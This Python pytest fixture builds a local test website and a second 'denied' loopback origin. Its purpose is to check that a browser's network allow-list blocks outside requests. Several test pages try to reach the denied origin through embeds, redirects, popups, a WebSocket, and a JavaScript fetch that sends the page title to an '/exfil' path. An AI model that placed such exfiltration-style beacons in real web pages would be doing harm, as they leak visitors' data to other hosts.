"""A small multi-page website on 127.0.0.1 for browser tests, plus a second ('denied') origin."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

import pytest

from .http_server import TestServer, start_server


@dataclass
class Website:
    site: TestServer
    other: TestServer  # another loopback origin that the policy does not list

    def policy(self) -> dict[str, object]:
        return {"network": {"allow_hosts": [f"127.0.0.1:{self.site.port}"]}}


def _html(title: str, body: str) -> bytes:
    return f"<!doctype html><html><head><title>{title}</title></head><body>{body}</body></html>".encode()


@pytest.fixture
def website() -> Iterator[Website]:
    site, h1 = start_server()
    other, h2 = start_server()
    deny = other.base

    def page(path: str, title: str, body: str) -> None:
        site.routes[path] = lambda h, r: h.send_body(200, _html(title, body), "text/html; charset=utf-8")

    page("/", "Shop", "<h1>Products</h1><ul><li>Widget: $5.00</li><li>Gadget: $7.50</li></ul>"
         "<a id='about' href='/about'>About us</a> <a href='/form'>Contact</a>")
    page("/about", "About", "<h1>About</h1><p>We sell widgets.</p><a href='/'>Home</a>")
    page("/form", "Contact", "<h1>Contact</h1><form action='/submit' method='post'>"
         "<label for='name'>Name</label><input id='name' name='name'>"
         "<input id='email' name='email' type='email'><button type='submit'>Send</button></form>")
    site.routes["/submit"] = lambda h, r: h.send_body(200, _html("Thanks", f"<h1>Thanks</h1><p>{r.body.decode()}</p>"),
                                                      "text/html")
    page("/embeds", "Embeds", f"<h1>Embeds</h1><img src='{deny}/pixel.png'><iframe src='{deny}/frame'></iframe>"
         f"<script src='{deny}/tracker.js'></script><p>local content</p>")
    page("/js-nav", "JS", f"<h1>JS</h1><button id='go' onclick=\"location='{deny}/stolen'\">Go</button>")
    page("/js-auto", "Auto", f"<h1>Auto</h1><script>setTimeout(() => location = '{deny}/auto', 10)</script>")
    page("/meta", "Meta", f"<meta http-equiv='refresh' content='0;url={deny}/meta-target'><h1>Meta</h1>")
    page("/popup", "Popup", f"<h1>Popup</h1><button id='pop' onclick=\"window.open('{deny}/popup-target')\">Open</button>")
    page("/ws", "WS", f"<h1>WS</h1><script>try {{ new WebSocket('{deny.replace('http', 'ws')}/sock') }} catch (e) {{}}</script>")
    page("/fetch", "Fetch", f"<h1>Fetch</h1><script>fetch('{deny}/exfil?d=' + document.title).catch(() => 0)</script>")
    page("/big", "Big", "<h1>Big</h1>" + "".join(f"<p>Paragraph {i} " + "lorem ipsum " * 20 + "</p>" for i in range(400)))
    page("/files", "Files", "<h1>Files</h1><a id='dl' href='/report.csv' download>Report</a>"
         "<a id='big' href='/huge.bin' download>Huge</a>")
    site.routes["/report.csv"] = lambda h, r: h.send_body(200, b"a,b\n1,2\n", "text/csv",
                                                          {"Content-Disposition": "attachment; filename=report.csv"})
    site.routes["/huge.bin"] = lambda h, r: h.send_body(200, b"z" * 300_000, "application/octet-stream",
                                                        {"Content-Disposition": "attachment; filename=huge.bin"})
    site.routes["/hang"] = lambda h, r: __import__("time").sleep(30)
    site.routes["/redirect-out"] = lambda h, r: h.redirect(f"{deny}/redirected")
    site.routes["/login"] = lambda h, r: h.send_body(
        200, _html("Logged in", "<h1>Welcome</h1>"), "text/html", {"Set-Cookie": "sid=abc123; Path=/; Max-Age=3600"})
    site.routes["/whoami"] = lambda h, r: h.send_body(
        200, _html("Who", f"<h1>cookie={r.headers.get('cookie', 'none')}</h1>"), "text/html")
    yield Website(site, other)
    for httpd in (h1, h2):
        httpd.shutdown()
        httpd.server_close()
